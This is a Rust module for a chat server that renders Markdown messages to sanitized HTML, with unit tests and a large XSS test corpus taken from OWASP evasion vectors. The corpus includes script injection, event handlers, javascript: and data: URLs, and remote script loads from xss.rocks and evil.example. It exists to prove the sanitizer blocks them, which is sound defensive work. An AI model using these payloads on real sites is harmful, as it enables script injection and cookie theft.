//! Message bodies as HTML: CommonMark rendered by pulldown-cmark, then sanitized by ammonia.
//!
//! The stored body stays the source text; [`render`] turns it into the `html` field of a message,
//! once per send or edit (and on history reads), never per recipient. The output is meant to be
//! assigned to `innerHTML`, so it is built in two independent steps, either of which alone would
//! keep script out:
//!
//! 1. The Markdown events are rewritten before any HTML exists: raw HTML becomes text, links
//!    other than `http:`, `https:` and `mailto:` lose their anchor (the text stays), images become
//!    links, headings become bold paragraphs, single newlines become line breaks.
//! 2. ammonia then parses the result as a browser would and keeps only an allowlist of tags,
//!    attributes and URL schemes, adding `rel` and `target` to every link.
//!
//! What chat needs and documents do not is left out: no tables, footnotes, task lists, math or
//! heading attributes (pulldown-cmark's options for them stay off).

use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

use pulldown_cmark::{CodeBlockKind, CowStr, Event, LinkType, Options, Parser, Tag, TagEnd};

/// The `rel` every link gets: no `window.opener` for the opened page, no `Referer` leaking the
/// server's URL, and no ranking credit for whatever someone posted.
const LINK_REL: &str = "noopener noreferrer nofollow";

/// The deepest nesting of tags handed to the sanitizer. html5ever, which ammonia parses with,
/// spends time quadratic in the depth of the tree (each new element checks the open-element
/// stack): 4,000 characters of `> - > - …` took 135 ms to clean and 100,000 of `>` four
/// minutes. Markdown nests quotes and lists without limit; chat needs a few levels, so deeper
/// tags are dropped and their content kept, which bounds the cost by the length of the body.
const MAX_NESTING: usize = 16;

/// URL schemes a link may have. Everything else (`javascript:`, `data:`, `vbscript:`, `file:`,
/// relative and protocol-relative URLs) loses its anchor: a relative URL would resolve against
/// confab's own origin, where a click carries the reader's session.
const ALLOWED_SCHEMES: [&str; 3] = ["http://", "https://", "mailto:"];

/// Renders a message body (CommonMark) to sanitized HTML, safe to assign to `innerHTML`.
///
/// Supported: emphasis, strong, strikethrough (`~~x~~`), inline code, fenced and indented code
/// blocks (a safe language name becomes `class="language-…"`), links, autolinks (`<https://…>`,
/// `<a@b.example>` and bare `http(s)://` URLs), lists, block quotes and thematic breaks. The rules:
/// - raw HTML is shown as text, escaped, never rendered nor dropped;
/// - links open in a new tab (`target="_blank"`) with `rel="noopener noreferrer nofollow"`;
///   a link whose URL is not `http`, `https` or `mailto` is dropped and its text kept;
/// - an image is shown as a link to it (its alt text, or the URL when there is none), so
///   nothing is fetched when a message is displayed;
/// - headings are rendered as bold paragraphs: a chat line is not a document title;
/// - a single newline is a line break, as people type multi-line messages;
/// - quotes and lists nest at most 16 tags deep (`MAX_NESTING`; deeper ones are flattened).
///
/// Cost, release build: ~9 µs for 170 bytes of plain text, ~40 µs for 160 bytes with a link,
/// a quote, code and emphasis (four fifths of it in ammonia), about linear in the length.
pub fn render(body: &str) -> String {
    let parser = Parser::new_ext(body, Options::ENABLE_STRIKETHROUGH);
    let events = ChatEvents::default().rewrite(pulldown_cmark::utils::TextMergeStream::new(parser));
    let mut html = String::with_capacity(body.len() + body.len() / 2 + 16);
    pulldown_cmark::html::push_html(&mut html, events.into_iter());
    let mut clean = SANITIZER.clean(&html).to_string();
    clean.truncate(clean.trim_end().len());
    clean
}

/// The sanitizer, configured once. A static rather than a field of the app state because it is
/// immutable configuration, the same for every message: building it costs a dozen hash-set
/// inserts that would otherwise be paid on every render.
static SANITIZER: LazyLock<ammonia::Builder<'static>> = LazyLock::new(|| {
    let tags = [
        "a",
        "blockquote",
        "br",
        "code",
        "del",
        "em",
        "hr",
        "li",
        "ol",
        "p",
        "pre",
        "strong",
        "ul",
    ];
    let attributes = HashMap::from([
        ("a", HashSet::from(["href", "title"])),
        ("ol", HashSet::from(["start"])),
        ("code", HashSet::from(["class"])),
    ]);
    let schemes = ALLOWED_SCHEMES.map(|prefix| prefix.trim_end_matches("//").trim_end_matches(':'));
    let mut builder = ammonia::Builder::empty();
    builder
        .tags(HashSet::from(tags))
        .tag_attributes(attributes)
        .url_schemes(HashSet::from(schemes))
        .url_relative(ammonia::UrlRelative::Deny)
        .link_rel(Some(LINK_REL))
        .set_tag_attribute_value("a", "target", "_blank")
        .strip_comments(true)
        .attribute_filter(|element, attribute, value| match (element, attribute) {
            ("code", "class") => value
                .strip_prefix("language-")
                .filter(|language| is_language_name(language))
                .map(|_| Cow::Borrowed(value)),
            _ => Some(Cow::Borrowed(value)),
        });
    builder
});

/// Rewrites pulldown-cmark's events into the subset chat renders (see [`render`]).
#[derive(Default)]
struct ChatEvents<'a> {
    out: Vec<Event<'a>>,
    /// One entry per open link or image, innermost last.
    links: Vec<OpenLink<'a>>,
    /// Inside a code block: its text is shown as is, never linkified.
    in_code_block: bool,
    /// Inside an HTML block, shown as a paragraph of text; true once a line ended there, so the
    /// next line starts after a `<br>`.
    html_block: Option<bool>,
    /// Per open tag, innermost last: whether it was emitted (see [`ChatEvents::emit`]).
    kept: Vec<bool>,
    /// How many emitted tags are open.
    depth: usize,
}

/// A Markdown link or image being rendered.
struct OpenLink<'a> {
    /// An `<a>` was opened for it (false: dropped URL, or inside another link).
    anchored: bool,
    /// Text to show when an image has no alt text: its URL.
    fallback: Option<CowStr<'a>>,
    has_text: bool,
}

impl<'a> ChatEvents<'a> {
    fn rewrite(mut self, events: impl Iterator<Item = Event<'a>>) -> Vec<Event<'a>> {
        for event in events {
            self.event(event);
        }
        self.out
    }

    /// Hands an event to the HTML writer, dropping the tags nested deeper than [`MAX_NESTING`]
    /// (their content stays, in the deepest element kept).
    fn emit(&mut self, event: Event<'a>) {
        match event {
            Event::Start(_) => {
                let keep = self.depth < MAX_NESTING;
                self.kept.push(keep);
                if keep {
                    self.depth += 1;
                    self.out.push(event);
                }
            }
            Event::End(end) => match self.kept.pop() {
                Some(true) => {
                    self.depth -= 1;
                    self.out.push(Event::End(end));
                }
                _ if matches!(end, TagEnd::Paragraph | TagEnd::Item | TagEnd::CodeBlock) => {
                    self.out.push(Event::HardBreak);
                }
                _ => {}
            },
            other => self.out.push(other),
        }
    }

    fn event(&mut self, event: Event<'a>) {
        match event {
            Event::Start(Tag::Heading { .. }) => {
                self.emit(Event::Start(Tag::Paragraph));
                self.emit(Event::Start(Tag::Strong));
            }
            Event::End(TagEnd::Heading(_)) => {
                self.emit(Event::End(TagEnd::Strong));
                self.emit(Event::End(TagEnd::Paragraph));
            }
            Event::Start(Tag::HtmlBlock) => {
                self.html_block = Some(false);
                self.emit(Event::Start(Tag::Paragraph));
            }
            Event::End(TagEnd::HtmlBlock) => {
                self.html_block = None;
                self.emit(Event::End(TagEnd::Paragraph));
            }
            Event::Html(html) | Event::InlineHtml(html) => self.html_as_text(&html),
            Event::SoftBreak => self.emit(Event::HardBreak),
            Event::Start(Tag::CodeBlock(kind)) => {
                self.in_code_block = true;
                let kind = match kind {
                    CodeBlockKind::Fenced(info) => {
                        let language = info.split_whitespace().next().unwrap_or("");
                        let language = if is_language_name(language) {
                            language
                        } else {
                            ""
                        };
                        CodeBlockKind::Fenced(CowStr::from(language.to_owned()))
                    }
                    CodeBlockKind::Indented => CodeBlockKind::Indented,
                };
                self.emit(Event::Start(Tag::CodeBlock(kind)));
            }
            Event::End(TagEnd::CodeBlock) => {
                self.in_code_block = false;
                self.emit(Event::End(TagEnd::CodeBlock));
            }
            Event::Start(Tag::Link {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                let allowed = if link_type == LinkType::Email {
                    true // `<a@b.example>`: the writer adds `mailto:` to a plain address
                } else {
                    is_allowed_url(&dest_url)
                };
                self.open_link(
                    allowed,
                    Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    },
                    None,
                );
            }
            Event::Start(Tag::Image {
                link_type,
                dest_url,
                title,
                id,
            }) => {
                let allowed = is_allowed_url(&dest_url);
                let fallback = Some(dest_url.clone());
                self.open_link(
                    allowed,
                    Tag::Link {
                        link_type,
                        dest_url,
                        title,
                        id,
                    },
                    fallback,
                );
            }
            Event::End(TagEnd::Link | TagEnd::Image) => self.close_link(),
            Event::Text(text) => {
                if let Some(link) = self.links.last_mut() {
                    link.has_text = true;
                    self.emit(Event::Text(text));
                } else if self.in_code_block {
                    self.emit(Event::Text(text));
                } else {
                    self.linkify(text);
                }
            }
            Event::Code(code) => {
                if let Some(link) = self.links.last_mut() {
                    link.has_text = true;
                }
                self.emit(Event::Code(code));
            }
            other => self.emit(other),
        }
    }

    /// Shows raw HTML as the text it is; its newlines become line breaks like any other line.
    fn html_as_text(&mut self, html: &str) {
        for line in html.split_inclusive('\n') {
            if self.html_block == Some(true) {
                self.emit(Event::HardBreak);
            }
            let text = line.trim_end_matches(['\n', '\r']);
            if !text.is_empty() {
                self.emit(Event::Text(CowStr::from(text.to_owned())));
            }
            let ended = line.ends_with('\n');
            if self.html_block.is_some() {
                self.html_block = Some(ended);
            } else if ended {
                self.emit(Event::HardBreak);
            }
        }
    }

    /// Opens an anchor for a link or image unless its URL is refused or it sits inside another
    /// anchor (`[![alt](img)](url)`): nested `<a>` are not HTML.
    fn open_link(&mut self, allowed: bool, tag: Tag<'a>, fallback: Option<CowStr<'a>>) {
        let anchored = allowed && !self.links.iter().any(|link| link.anchored);
        if anchored {
            self.emit(Event::Start(tag));
        }
        self.links.push(OpenLink {
            anchored,
            fallback,
            has_text: false,
        });
    }

    fn close_link(&mut self) {
        let Some(link) = self.links.pop() else { return };
        if link.anchored {
            if let (false, Some(url)) = (link.has_text, link.fallback) {
                self.emit(Event::Text(url));
            }
            self.emit(Event::End(TagEnd::Link));
        }
        if let Some(outer) = self.links.last_mut() {
            outer.has_text |= link.has_text;
        }
    }

    /// Turns bare `http://` and `https://` URLs in running text into links, as chat users
    /// expect when they paste one (CommonMark itself only links `<…>` autolinks).
    fn linkify(&mut self, text: CowStr<'a>) {
        let mut rest: &str = &text;
        if find_bare_url(rest).is_none() {
            self.emit(Event::Text(text));
            return;
        }
        while let Some((start, end)) = find_bare_url(rest) {
            if start > 0 {
                self.emit(Event::Text(CowStr::from(rest[..start].to_owned())));
            }
            let url = CowStr::from(rest[start..end].to_owned());
            self.emit(Event::Start(Tag::Link {
                link_type: LinkType::Autolink,
                dest_url: url.clone(),
                title: CowStr::Borrowed(""),
                id: CowStr::Borrowed(""),
            }));
            self.emit(Event::Text(url));
            self.emit(Event::End(TagEnd::Link));
            rest = &rest[end..];
        }
        if !rest.is_empty() {
            self.emit(Event::Text(CowStr::from(rest.to_owned())));
        }
    }
}

/// Whether a link may keep its URL: only `http://`, `https://` and `mailto:`, compared ASCII
/// case-insensitively and ignoring whitespace and control characters anywhere (a browser drops
/// the tab in `jav&#x09;ascript:`). Ignoring more than a browser does can only admit a URL a
/// browser would read as relative, and ammonia refuses those with a real URL parser.
fn is_allowed_url(url: &str) -> bool {
    let head: String = url
        .chars()
        .filter(|c| !c.is_ascii_whitespace() && !c.is_control())
        .take(8)
        .map(|c| c.to_ascii_lowercase())
        .collect();
    ALLOWED_SCHEMES
        .iter()
        .any(|scheme| head.starts_with(scheme))
}

/// A fenced code block's language, kept as `class="language-…"` for client-side highlighting
/// only when it is a plain name (`rust`, `c++`, `objective-c`, `c#`).
fn is_language_name(language: &str) -> bool {
    (1..=32).contains(&language.len())
        && language
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '_' | '#' | '.'))
}

/// The byte range of the first bare `http(s)://` URL in `text`: it starts at a word boundary,
/// has a host, ends before whitespace, `<`, `>`, `"` or a backtick, and loses trailing
/// punctuation (and a `)` it did not open) as in "see https://example.com/x)."
fn find_bare_url(text: &str) -> Option<(usize, usize)> {
    let mut searched = 0;
    while let Some(found) = text[searched..].find("://") {
        let separator = searched + found;
        searched = separator + 3;
        let before = &text[..separator];
        let scheme_len = before.len()
            - before
                .trim_end_matches(|c: char| c.is_ascii_alphabetic())
                .len();
        let start = separator - scheme_len;
        let scheme = &text[start..separator];
        let at_boundary =
            !matches!(text[..start].chars().next_back(), Some(c) if c.is_alphanumeric());
        if !(scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https"))
            || !at_boundary
        {
            continue;
        }
        let tail = &text[searched..];
        let length = tail
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"' | '`'))
            .unwrap_or(tail.len());
        let mut url = &tail[..length];
        loop {
            let trimmed = url.trim_end_matches(['.', ',', ':', ';', '!', '?', '\'', '*', '_', '~']);
            let unbalanced = trimmed.ends_with(')')
                && trimmed.matches(')').count() > trimmed.matches('(').count();
            let trimmed = if unbalanced {
                &trimmed[..trimmed.len() - 1]
            } else {
                trimmed
            };
            if trimmed.len() == url.len() {
                break;
            }
            url = trimmed;
        }
        if url.starts_with(|c: char| c.is_alphanumeric() || c == '[') {
            return Some((start, searched + url.len()));
        }
    }
    None
}

/// Hostile message bodies, for tests of [`render`] here and, later, in a real browser (issue 12:
/// "no script runs, no request leaves the page"). Each entry is one whole message body.
///
/// They are reconstructed from the vector families of the OWASP XSS filter evasion cheat sheet
/// (script and event-handler tags, `javascript:` in every disguise: mixed case, entity-encoded,
/// with tabs, newlines, NULs or leading spaces; `data:` and `vbscript:`; style and expression
/// tricks; SVG, MathML, forms, frames, objects, `<base>` and `<meta http-equiv=refresh>`) and
/// completed with Markdown's own ways in: inline, reference and autolinks to those schemes, images,
/// HTML blocks, link titles with quotes, entities in destinations and code-block info strings.
/// For every one, the rendered HTML must have no tag beyond the allowlist, no event handler, no
/// URL outside `http`, `https` and `mailto`, and any raw HTML must show as text.
pub const XSS_CORPUS: &[&str] = &[
    // Script tags.
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.rocks/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"><script>alert(1)</script>",
    "'';!--\"<XSS>=&{()}",
    "<svg><script>alert(1)</script></svg>",
    "<textarea><script>alert(1)</script></textarea>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    // Images and event handlers.
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000049&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x31&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<IMG STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY ONLOAD=alert('XSS')>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg onload=alert(1)>",
    "<svg><a><set attributeName=\"href\" to=\"javascript:alert(1)\"/><text y=\"20\">x</text></a></svg>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<x onclick=alert(1)>click me",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    // Links and URLs in HTML.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript:alert(1)\">x</a>",
    "<a href=\"javas&#99;ript:alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"java\0script:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"https://example.com\">looks fine</a>",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
    // Frames, objects, forms, MathML.
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<IFRAME SRC=# onmouseover=\"alert(document.cookie)\"></IFRAME>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.rocks/scriptlet.html\"></OBJECT>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=\" type=\"image/svg+xml\" AllowScriptAccess=\"always\"></EMBED>",
    "<form action=\"javascript:alert(1)\"><input type=submit></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    // Style and expression tricks.
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<STYLE>BODY{-moz-binding:url(\"http://xss.rocks/xssmoz.xml#xss\")}</STYLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
    "<XSS STYLE=\"behavior: url(xss.htc);\">",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    // Markdown links to refused schemes.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:alert(1))",
    "[x](jav&#x09;ascript:alert(1))",
    "[x](java&#x0A;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript:alert%281%29)",
    "[x](https:javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](//evil.example/x)",
    "[x](/api/admin/users)",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: javascript:alert(1) \"title\"",
    "[x][r]\n\n[r]: <javascript:alert(1)>",
    "[x][r]\n\n[r]: &#106;avascript:alert(1)",
    // Markdown images: shown as links, never fetched.
    "![x](http://evil.example/img.png)",
    "![](http://evil.example/img.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
    "![x][r]\n\n[r]: http://evil.example/img.png",
    "[![x](http://evil.example/img.png)](https://example.com)",
    "![x\" onerror=\"alert(1)](http://evil.example/img.png)",
    "![x](http://evil.example/img.png \"t\\\" onerror=\\\"alert(1)\")",
    // Titles, destinations and text that try to break out of an attribute.
    "[x](https://example.com \"a\\\" onmouseover=\\\"alert(1)\")",
    "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    "[x](https://example.com/\"onmouseover=\"alert(1))",
    "[x](https://example.com?q=<script>alert(1)</script>)",
    "[<img src=x onerror=alert(1)>](https://example.com)",
    "<https://example.com/?q=\"onmouseover=alert(1)>",
    "https://example.com/\"><script>alert(1)</script>",
    "http://example.com/<img src=x onerror=alert(1)>",
    "[x](https://example.com)<!-- <script>alert(1)</script> -->",
    // HTML blocks and HTML inside Markdown.
    "<div onclick=alert(1)>\n*md*\n</div>",
    "<details>\n<summary>x</summary>\n<script>alert(1)</script>\n</details>",
    "<script>\n\nalert(1)\n</script>",
    "<!-- x --><script>alert(1)</script>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "*<img src=x onerror=alert(1)>*",
    "> <iframe src=javascript:alert(1)>",
    "- <svg onload=alert(1)>",
    "# <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "```html onload=alert(1)\nx\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
];

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::{render, MAX_NESTING, XSS_CORPUS};

    /// What every link looks like after the tag name and `href`.
    const LINK: &str = r#"target="_blank" rel="noopener noreferrer nofollow""#;

    #[test]
    fn inline_styles() {
        assert_eq!(
            render("*a* _b_ **c** __d__ ~~e~~ `f <g>`"),
            "<p><em>a</em> <em>b</em> <strong>c</strong> <strong>d</strong> <del>e</del> \
             <code>f &lt;g&gt;</code></p>"
        );
    }

    #[test]
    fn code_blocks_keep_a_plain_language_name_only() {
        assert_eq!(
            render("```rust\nfn main() { 1 < 2 }\n```"),
            "<pre><code class=\"language-rust\">fn main() { 1 &lt; 2 }\n</code></pre>"
        );
        assert_eq!(render("```\nplain\n```"), "<pre><code>plain\n</code></pre>");
        assert_eq!(
            render("    indented\n    code"),
            "<pre><code>indented\ncode</code></pre>"
        );
        assert_eq!(
            render("```x\" onclick=\"y\nz\n```"),
            "<pre><code>z\n</code></pre>"
        );
        // Newlines and Markdown inside a code block stay as typed.
        assert_eq!(
            render("```\n*a*\nb\n```"),
            "<pre><code>*a*\nb\n</code></pre>"
        );
    }

    #[test]
    fn links_open_in_a_new_tab_without_referrer() {
        assert_eq!(
            render("[docs](https://example.com/a?b=1&c=2 \"The docs\")"),
            format!(
                "<p><a href=\"https://example.com/a?b=1&amp;c=2\" title=\"The docs\" {LINK}>docs</a></p>"
            )
        );
        assert_eq!(
            render("[mail me](mailto:ann@example.com)"),
            format!("<p><a href=\"mailto:ann@example.com\" {LINK}>mail me</a></p>")
        );
        assert_eq!(
            render("[x][ref]\n\n[ref]: http://example.com"),
            format!("<p><a href=\"http://example.com\" {LINK}>x</a></p>")
        );
    }

    #[test]
    fn autolinks_angle_brackets_email_and_bare_urls() {
        assert_eq!(
            render("<https://example.com> <ann@example.com>"),
            format!(
                "<p><a href=\"https://example.com\" {LINK}>https://example.com</a> \
                 <a href=\"mailto:ann@example.com\" {LINK}>ann@example.com</a></p>"
            )
        );
        assert_eq!(
            render("see https://example.com/wiki/A_(b)). or HTTP://EXAMPLE.COM/x?y=1, ok"),
            format!(
                "<p>see <a href=\"https://example.com/wiki/A_(b)\" {LINK}>https://example.com/wiki/A_(b)</a>). \
                 or <a href=\"HTTP://EXAMPLE.COM/x?y=1\" {LINK}>HTTP://EXAMPLE.COM/x?y=1</a>, ok</p>"
            )
        );
        // Not a URL: no host, not at a word boundary, another scheme, inside code.
        assert_eq!(
            render("https:// xhttps://a.b ftp://a.b"),
            "<p>https:// xhttps://a.b ftp://a.b</p>"
        );
        assert_eq!(render("`https://a.b`"), "<p><code>https://a.b</code></p>");
        // A bare URL inside link text does not nest a second anchor.
        assert_eq!(
            render("[https://a.example](https://b.example)"),
            format!("<p><a href=\"https://b.example\" {LINK}>https://a.example</a></p>")
        );
    }

    #[test]
    fn lists_quotes_and_rules() {
        assert_eq!(
            render("- a\n- b\n\n3. c\n4. d"),
            "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n<ol start=\"3\">\n<li>c</li>\n<li>d</li>\n</ol>"
        );
        assert_eq!(
            render("1. one\n   - nested"),
            "<ol>\n<li>one\n<ul>\n<li>nested</li>\n</ul>\n</li>\n</ol>"
        );
        assert_eq!(
            render("> quoted\n> **twice**"),
            "<blockquote>\n<p>quoted<br>\n<strong>twice</strong></p>\n</blockquote>"
        );
        assert_eq!(render("a\n\n---\n\nb"), "<p>a</p>\n<hr>\n<p>b</p>");
    }

    #[test]
    fn headings_are_bold_paragraphs() {
        assert_eq!(
            render("# Big\n### *small*"),
            "<p><strong>Big</strong></p>\n<p><strong><em>small</em></strong></p>"
        );
        assert_eq!(render("Title\n====="), "<p><strong>Title</strong></p>");
        assert_eq!(render("#hashtag"), "<p>#hashtag</p>");
    }

    #[test]
    fn single_newlines_are_line_breaks() {
        assert_eq!(render("one\ntwo\nthree"), "<p>one<br>\ntwo<br>\nthree</p>");
        assert_eq!(render("hard  \nbreak"), "<p>hard<br>\nbreak</p>");
        assert_eq!(render("para\n\nother"), "<p>para</p>\n<p>other</p>");
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert_eq!(
            render("a <b>bold</b> claim"),
            "<p>a &lt;b&gt;bold&lt;/b&gt; claim</p>"
        );
        assert_eq!(
            render("<div onclick=\"x()\">\n*not md*\n</div>"),
            "<p>&lt;div onclick=\"x()\"&gt;<br>\n*not md*<br>\n&lt;/div&gt;</p>"
        );
        assert_eq!(render("<!-- note -->"), "<p>&lt;!-- note --&gt;</p>");
        assert_eq!(
            render("x <a\nhref=\"y\">"),
            "<p>x &lt;a<br>\nhref=\"y\"&gt;</p>"
        );
        assert_eq!(render("&lt;b&gt; &amp; &copy;"), "<p>&lt;b&gt; &amp; ©</p>");
    }

    #[test]
    fn refused_links_keep_their_text() {
        for body in [
            "[x](javascript:alert(1))",
            "[x](data:text/html,hi)",
            "[x](vbscript:msgbox(1))",
            "[x](file:///etc/passwd)",
            "[x](/relative)",
            "[x](//host.example/a)",
            "[x](#fragment)",
            "[x](example.com)",
        ] {
            assert_eq!(render(body), "<p>x</p>", "{body}");
        }
        assert_eq!(
            render("<javascript:alert(1)>"),
            "<p>javascript:alert(1)</p>"
        );
    }

    #[test]
    fn images_are_links_never_fetched() {
        assert_eq!(
            render("![a cat](https://example.com/cat.png \"Cat\")"),
            format!(
                "<p><a href=\"https://example.com/cat.png\" title=\"Cat\" {LINK}>a cat</a></p>"
            )
        );
        assert_eq!(
            render("![](https://example.com/cat.png)"),
            format!("<p><a href=\"https://example.com/cat.png\" {LINK}>https://example.com/cat.png</a></p>")
        );
        assert_eq!(render("![a cat](javascript:alert(1))"), "<p>a cat</p>");
        // An image inside a link: one anchor, to the link's target.
        assert_eq!(
            render("[![a cat](https://example.com/cat.png)](https://example.com/)"),
            format!("<p><a href=\"https://example.com/\" {LINK}>a cat</a></p>")
        );
    }

    #[test]
    fn empty_and_plain_bodies() {
        assert_eq!(render(""), "");
        assert_eq!(render("   \n "), "");
        assert_eq!(render("just text"), "<p>just text</p>");
        assert_eq!(
            render("5 > 3 & 2 < 4 \"q\" 'a'"),
            "<p>5 &gt; 3 &amp; 2 &lt; 4 \"q\" 'a'</p>"
        );
    }

    #[test]
    fn nesting_is_bounded_and_content_kept() {
        let html = render(&format!("{}deep", "> ".repeat(5_000)));
        assert_eq!(html.matches("<blockquote>").count(), MAX_NESTING);
        assert_eq!(depth(&html), MAX_NESTING);
        assert!(html.contains("deep"));
        let html = render(&format!("{}deep", "> - 1. ".repeat(2_000)));
        assert_eq!(depth(&html), MAX_NESTING);
        assert!(html.contains("deep"));
    }

    /// How deep the elements of a sanitized fragment nest.
    fn depth(html: &str) -> usize {
        let (mut depth, mut deepest) = (0usize, 0);
        for tag in tags(html) {
            if tag.closing {
                depth -= 1;
            } else if !matches!(tag.name.as_str(), "br" | "hr") {
                depth += 1;
                deepest = deepest.max(depth);
            }
        }
        deepest
    }

    /// The tags and attributes a sanitized fragment may contain.
    const ALLOWED: &[(&str, &[&str])] = &[
        ("a", &["href", "title", "target", "rel"]),
        ("blockquote", &[]),
        ("br", &[]),
        ("code", &["class"]),
        ("del", &[]),
        ("em", &[]),
        ("hr", &[]),
        ("li", &[]),
        ("ol", &["start"]),
        ("p", &[]),
        ("pre", &[]),
        ("strong", &[]),
        ("ul", &[]),
    ];

    #[test]
    fn xss_corpus_renders_harmless() {
        for body in XSS_CORPUS {
            let html = render(body);
